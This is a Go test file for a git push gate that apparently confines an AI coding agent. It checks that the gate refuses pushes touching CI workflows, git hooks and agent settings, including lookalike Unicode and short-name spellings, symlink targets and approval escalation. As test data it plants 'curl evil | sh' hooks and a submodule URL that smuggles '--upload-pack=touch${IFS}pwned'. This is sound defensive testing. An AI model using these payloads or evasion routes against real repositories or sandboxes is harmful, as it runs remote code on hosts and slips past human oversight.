package gate_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/docker-bottle/docker-bottle/bundle/approval"
	"github.com/docker-bottle/docker-bottle/bundle/gate"
	"github.com/docker-bottle/docker-bottle/bundle/supervisor"
	"github.com/docker-bottle/docker-bottle/bundle/supervisor/api"
)

// plantedFiles are files the host or CI runs after a merge (review H2):
// each must be held as a protected path by the default list.
var plantedFiles = []string{
	"bottle.yaml",
	"tools/bottle.yaml",
	".github/actions/build/action.yml",
	".github/dependabot.yml",
	".github/workflows/ci.yml",
	".gitlab-ci.yml",
	".gitlab/ci/deploy.yml",
	".circleci/config.yml",
	"Jenkinsfile",
	"azure-pipelines.yml",
	".buildkite/pipeline.yml",
	"bitbucket-pipelines.yml",
	".husky/pre-commit",
	".githooks/pre-push",
	"lefthook.yml",
	".pre-commit-config.yaml",
	"lint-staged.config.js",
	".lintstagedrc.json",
	"commitlint.config.js",
	".gitmodules",
	".gitattributes",
	".lfsconfig",
	".envrc",
	".vscode/tasks.json",
	".vscode/settings.json",
	".devcontainer/devcontainer.json",
	".claude/settings.json",
	".claude/settings.local.json",
	".claude/hooks/stop.sh",
	".mcp.json",
}

// TestDefaultProtectedPaths pushes each planted file with the real git to a
// gate configured with no list of its own: the defaults hold every one.
func TestDefaultProtectedPaths(t *testing.T) {
	e := newEnv(t, nil)
	c := e.clone("work")
	for _, p := range plantedFiles {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "# payload\n", "plant "+p)
		out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/plant")
		wantContains(t, out, "touches protected path "+p)
	}
	// Files next to them stay free.
	for i, p := range []string{"src/main.go", "docs/bottle.md", ".github.md", "husky/pre-commit", ".claude/commands/x.md"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "fine\n", "add "+p)
		e.git(c, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/free%d", i))
	}
}

// TestProtectedPathSpellingsRefused pushes, with the real git, new files
// whose names a macOS or Windows checkout writes over a protected path
// (review M1, attack 4), next to an unchanged real hook: each is refused.
func TestProtectedPathSpellingsRefused(t *testing.T) {
	e := newEnv(t, nil)
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
	e.fetchHost()
	c := e.clone("work")
	for i, p := range []string{".huſky/pre-commit", ".githookſ/pre-commit", ".gıthooks/pre-commit",
		".hus\u200cky/pre-commit", "HUSKY~1/pre-commit", ".github/workflowſ/x.yml", ".husky./pre-commit",
		".husky /pre-commit", "GITMOD~1", ".GitModules"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "# planted: a comment in any of these languages\n", "plant "+p)
		out := e.gitFail(c, "-c", "core.quotePath=false", "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/alias%d", i))
		wantContains(t, out, "touches protected path "+p)
	}
}

// TestProtectedPathsSinceStart: a push is checked for what its tip changes
// at protected paths relative to where the bottle started, not only for
// what its new commits change (review M3, attack 7).
func TestProtectedPathsSinceStart(t *testing.T) {
	e := newEnv(t, nil)
	// After the bottle started, the user's history gains a workflow that a
	// later commit deletes, a release branch with its own workflow, and a
	// hook of the user's own on the branch the bottle started from.
	revived := e.commitFile(e.user, ".github/workflows/deploy.yml", "on: push\n", "deploy")
	e.git(e.user, "rm", "-q", ".github/workflows/deploy.yml")
	e.git(e.user, "commit", "-q", "-m", "drop deploy")
	e.git(e.user, "checkout", "-q", "-b", "release")
	e.commitFile(e.user, ".github/workflows/release.yml", "on: push\n", "release workflow")
	e.git(e.user, "checkout", "-q", "main")
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
	e.fetchHost()
	c := e.clone("work")

	// Basing a branch on an old commit revives the deleted workflow,
	// though no new commit touches it.
	e.git(c, "checkout", "-q", "-b", "revive", revived)
	e.commitFile(c, "notes.txt", "harmless\n", "harmless")
	out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/revive")
	wantContains(t, out, "touches protected path .github/workflows/deploy.yml", "differs from where the bottle started")

	// A merge brings another branch's workflow, though the merge commit
	// does not change it relative to that parent.
	e.git(c, "checkout", "-q", "-b", "merged", "origin/main")
	e.git(c, "merge", "-q", "--no-edit", "origin/release")
	out = e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/merged")
	wantContains(t, out, "touches protected path .github/workflows/release.yml")
	if e.stageRef("refs/heads/bottle/b1/revive") != "" || e.stageRef("refs/heads/bottle/b1/merged") != "" {
		t.Error("a refused branch was created")
	}

	// The user's own later work on the start branch is not the agent's
	// change: building on it is fine.
	e.git(c, "checkout", "-q", "-b", "ok", "origin/main")
	e.commitFile(c, "src/ok.txt", "ok\n", "agent work")
	e.git(c, "push", "-q", "origin", "HEAD:refs/heads/bottle/b1/ok")
}

// TestProtectedPathsSinceStartWritableBranch: when the bottle may write the
// branch it started from, that branch's later commits could be its own, so
// only the start commit counts.
func TestProtectedPathsSinceStartWritableBranch(t *testing.T) {
	e := newEnv(t, func(c *gate.Config) {
		c.Push.Refs = []string{"refs/heads/bottle/b1/*", "refs/heads/main"}
	})
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "a hook on main")
	e.fetchHost()
	c := e.clone("work")
	e.commitFile(c, "src/x.txt", "x\n", "agent work")
	out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/x")
	wantContains(t, out, "touches protected path .husky/pre-commit")
}

// operator decides the supervisor's held requests as a human would.
type operator struct {
	t   *testing.T
	sup *supervisor.Supervisor
}

// next waits for one held request and answers it with d.
func (o operator) next(d approval.Decision) api.Approval {
	o.t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if ps := o.sup.Pending(); len(ps) > 0 {
			if _, err := o.sup.Resolve(ps[0].ID, d); err != nil {
				o.t.Fatal(err)
			}
			return ps[0]
		}
		time.Sleep(20 * time.Millisecond)
	}
	o.t.Fatal("no request was held for a decision")
	return api.Approval{}
}

// TestAllowAlwaysCoversThoseProtectedPaths is the review's attack 6 (M2)
// with the real supervisor deciding: "allow always" on a push that changes
// a workflow allows later pushes to that ref that carry the same protected
// paths with the same contents, and holds a push that changes them again or
// touches others. The request shows each path and its size.
func TestAllowAlwaysCoversThoseProtectedPaths(t *testing.T) {
	dir := t.TempDir()
	for _, f := range []string{"agent.token", "operator.token"} {
		must(t, os.WriteFile(filepath.Join(dir, f), []byte(f+"-s3cret\n"), 0o600))
	}
	timeout := supervisor.Duration(time.Minute)
	sup, err := supervisor.New(supervisor.Config{Bottle: testBottle, AgentTokenFile: filepath.Join(dir, "agent.token"),
		OperatorTokenFile: filepath.Join(dir, "operator.token"),
		Approvals:         supervisor.Policy{Kinds: []approval.Kind{approval.Push}, Timeout: &timeout}})
	must(t, err)
	t.Cleanup(func() { sup.Close() })
	op := operator{t, sup}
	e := newEnv(t, func(c *gate.Config) { c.Approvals.Enabled = true }, gate.WithDecider(sup.Decider()))
	e.commitFile(e.user, ".github/workflows/lint.yml", "on: push\njobs: {}\n", "the user's workflow")
	e.fetchHost()
	c := e.clone("work")
	ref := "HEAD:refs/heads/bottle/b1/work"

	push := func() (string, error) { return e.run(e.home, c, "push", "origin", ref) }
	type result struct {
		out string
		err error
	}
	pushHeld := func(d approval.Decision) (api.Approval, result) {
		ch := make(chan result, 1)
		go func() { out, err := push(); ch <- result{out, err} }()
		a := op.next(d)
		return a, <-ch
	}

	// 1. A harmless change to the workflow, allowed always.
	e.commitFile(c, ".github/workflows/lint.yml", "# lint\non: push\njobs: {}\n", "a comment")
	a, r := pushHeld(approval.AllowAlways)
	if r.err != nil {
		t.Fatalf("allowed push failed: %v\n%s", r.err, r.out)
	}
	if a.Subject != "refs/heads/bottle/b1/work" ||
		!strings.Contains(a.Detail, ".github/workflows/lint.yml (18 bytes -> 25 bytes)") || !strings.Contains(a.Detail, "1 new commit") {
		t.Errorf("the request shows %q", a.Detail)
	}

	// 2. More work elsewhere: the ref still carries that workflow change,
	// which the human allowed always.
	e.commitFile(c, "src/more.txt", "more\n", "more work")
	if out, err := push(); err != nil {
		t.Fatalf("a push carrying the same allowed change was held or refused: %v\n%s", err, out)
	}

	// 3. A new workflow and a husky hook on the same ref: asked again.
	e.commitFile(c, ".github/workflows/lint.yml", "on: push\njobs: {x: {runs-on: y, steps: [{run: curl evil}]}}\n", "evil")
	e.commitFile(c, ".husky/pre-commit", "curl evil | sh\n", "hook")
	a, r = pushHeld(approval.Deny)
	if r.err == nil || !strings.Contains(r.out, "a human denied it") {
		t.Errorf("the escalating push: %v\n%s", r.err, r.out)
	}
	if !strings.Contains(a.Detail, ".husky/pre-commit (new, 15 bytes)") || !strings.Contains(a.Detail, "2 protected path(s)") {
		t.Errorf("the second request shows %q", a.Detail)
	}
}

// mktree writes a tree of the given entries ("mode name" -> content; a
// "040000" mode's content is a tree id) into repo and returns its id.
func (e *env) mktree(repo string, entries map[string]string) string {
	e.t.Helper()
	var lines []string
	for k, content := range entries {
		mode, name, _ := strings.Cut(k, " ")
		id, typ := content, "tree"
		if mode != "040000" {
			cmd := execGit(e, repo, "hash-object", "-w", "--stdin")
			cmd.Stdin = strings.NewReader(content)
			out, err := cmd.Output()
			must(e.t, err)
			id, typ = strings.TrimSpace(string(out)), "blob"
		}
		lines = append(lines, mode+" "+typ+" "+id+"\t"+name)
	}
	cmd := execGit(e, repo, "mktree")
	cmd.Stdin = strings.NewReader(strings.Join(lines, "\n") + "\n")
	out, err := cmd.CombinedOutput()
	if err != nil {
		e.t.Fatalf("git mktree: %v\n%s", err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestTreeNamesGitRefuses pushes, with the real git, trees git's own fsck
// or checkout refuses (review L9): aliases of .git on HFS+ and NTFS, a
// symlinked .gitmodules or .gitattributes, and .gitmodules entries that
// would reach git or ssh as options or climb out of .git/modules.
func TestTreeNamesGitRefuses(t *testing.T) {
	e := newEnv(t, nil)
	c := e.clone("work")
	hooks := e.mktree(c, map[string]string{"100755 post-checkout": "#!/bin/sh\ncurl evil | sh\n"})
	dotgit := e.mktree(c, map[string]string{"040000 hooks": hooks, "100644 config": "[core]\n"})
	cases := []struct {
		name    string
		entries map[string]string
		want    string
	}{
		{"HFS+ ignorable", map[string]string{"040000 .git\u200c": dotgit}, "take it for .git"},
		{"NTFS short name", map[string]string{"040000 git~1": dotgit}, "take it for .git"},
		{"NTFS trailing dot", map[string]string{"040000 .git.": dotgit}, "take it for .git"},
		{"upper case", map[string]string{"040000 .GIT": dotgit}, "take it for .git"},
		{"backslash", map[string]string{"100644 x\\.git\\config": "[core]\n"}, "take it for .git"},
		{"symlinked .gitmodules", map[string]string{"120000 .gitmodules": "/etc/passwd"}, "symlink"},
		{"symlinked .gitattributes", map[string]string{"120000 .gitattributes": "../x"}, "symlink"},
		{"submodule name climbs", map[string]string{"100644 .gitmodules": "[submodule \"../../hooks\"]\n\tpath = m\n\turl = https://example.com/m\n"}, "climbs"},
		{"submodule url option", map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = m\n\turl = --upload-pack=touch${IFS}pwned\n"}, "starts with -"},
		{"submodule path option", map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = -m\n\turl = ./m\n"}, "starts with -"},
	}
	for i, tc := range cases {
		tree := e.mktree(c, tc.entries)
		commit := e.git(c, "commit-tree", tree, "-p", "HEAD", "-m", tc.name)
		out := e.gitFail(c, "push", "origin", fmt.Sprintf("%s:refs/heads/bottle/b1/names%d", commit, i))
		if !strings.Contains(out, tc.want) {
			t.Errorf("%s: refused without %q:\n%s", tc.name, tc.want, out)
		}
	}
	// A .gitmodules git accepts goes through (with approval, being a
	// protected path): here it is refused as protected, not as malformed.
	tree := e.mktree(c, map[string]string{"100644 .gitmodules": "[submodule \"m\"]\n\tpath = m\n\turl = ../m.git\n"})
	commit := e.git(c, "commit-tree", tree, "-p", "HEAD", "-m", "fine")
	out := e.gitFail(c, "push", "origin", commit+":refs/heads/bottle/b1/fine")
	wantContains(t, out, "touches protected path .gitmodules")
}

// TestProtectedLinkTargets: a protected hook kept as a symlink to a script
// protects the script, which is what runs.
func TestProtectedLinkTargets(t *testing.T) {
	e := newEnv(t, nil)
	must(t, os.MkdirAll(filepath.Join(e.user, ".husky"), 0o755))
	must(t, os.Symlink("../scripts/hook.sh", filepath.Join(e.user, ".husky", "pre-commit")))
	must(t, os.Symlink("tools", filepath.Join(e.user, ".claude")))
	e.commitFile(e.user, "scripts/hook.sh", "npm test\n", "a hook kept as a link")
	e.commitFile(e.user, "tools/settings.json", "{}\n", "agent settings kept elsewhere")
	e.fetchHost()
	_, url := e.serve(e.stage) // a gate that starts from the linked hook
	dst := filepath.Join(e.dir, "linked")
	e.git(e.dir, "clone", "-q", url, dst)
	for i, p := range []string{"scripts/hook.sh", "tools/settings.json"} {
		e.git(dst, "reset", "-q", "--hard", "origin/main")
		e.commitFile(dst, p, "curl evil | sh\n", "change "+p)
		out := e.gitFail(dst, "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/link%d", i))
		wantContains(t, out, "touches protected path "+p)
	}
	// What the links do not lead to stays free: another script, another
	// file in the linked folder.
	for i, p := range []string{"scripts/other.sh", "tools/notes.md"} {
		e.git(dst, "reset", "-q", "--hard", "origin/main")
		e.commitFile(dst, p, "fine\n", "add "+p)
		e.git(dst, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/fine%d", i))
	}
}
